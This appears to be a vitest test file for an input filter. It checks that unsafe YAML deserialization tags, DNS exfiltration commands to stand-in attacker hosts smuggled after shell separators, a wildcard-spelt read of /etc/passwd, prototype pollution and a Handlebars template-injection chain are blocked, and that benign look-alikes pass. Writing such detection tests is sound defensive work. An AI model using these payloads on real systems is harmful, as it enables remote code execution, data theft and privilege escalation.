import { describe, it } from 'vitest';
import { expectAllowed, expectBlocked, form, json } from './helpers.ts';

const field = (value: string) => form(`v=${encodeURIComponent(value)}`);

describe('Unsafe YAML deserialization tags (RCE-210)', () => {
  it.each([
    ['PyYAML calling os.system', '!!python/object/apply:os.system ["id"]'],
    ['PyYAML naming a function', 'x: !!python/name:subprocess.Popen'],
    ['SnakeYAML loading a script engine', '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]'],
    ['Ruby YAML building a gem installer', '--- !ruby/object:Gem::Installer\ni: x'],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    expectBlocked(field(value), 'RCE-210');
  });

  it('allows YAML with the core tags only', () => {
    expectAllowed(json({ config: 'name: !!str hello\ncount: !!int 3\nitems: !!seq [a, b]' }));
  });
});

describe('DNS exfiltration and globbed paths after a separator (RCE-100, RCE-195)', () => {
  it.each([
    ['nslookup to a long top-level domain', '|| nslookup abc.attacker.technology', 'RCE-100'],
    ['dig with a +flag', '; dig +short x.oast.example', 'RCE-100'],
    ['a command and file spelt only with wildcards', '; /???/??t /???/p??s??', 'RCE-195'],
  ])('blocks %s at sensitivity 70', (_name, value, ruleId) => {
    expectBlocked(field(value), ruleId);
  });

  it.each([
    ['a sentence with a semicolon before the verb "dig"', 'see the docs.example section; dig into it'],
    ['a question-mark placeholder path', 'Path format: /???/ is not a valid route'],
  ])('allows %s', (_name, value) => {
    expectAllowed(json({ note: value }));
  });
});

describe('Prototype pollution and Handlebars escapes inside strings (NODE-110, SSTI-100)', () => {
  it('blocks a JSON text that sets constructor.prototype, sent inside a form field, at sensitivity 70', () => {
    expectBlocked(field('{"constructor":{"prototype":{"isAdmin":true}}}'), 'NODE-110');
  });

  it('blocks the Handlebars string-literal binding of the constructor-call chain at sensitivity 70', () => {
    expectBlocked(field('{{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}'), 'SSTI-100');
  });

  it('allows a Handlebars block that binds data, not a literal', () => {
    expectAllowed(json({ template: '{{#with person as |p|}}{{p.name}}{{/with}}' }));
  });
});
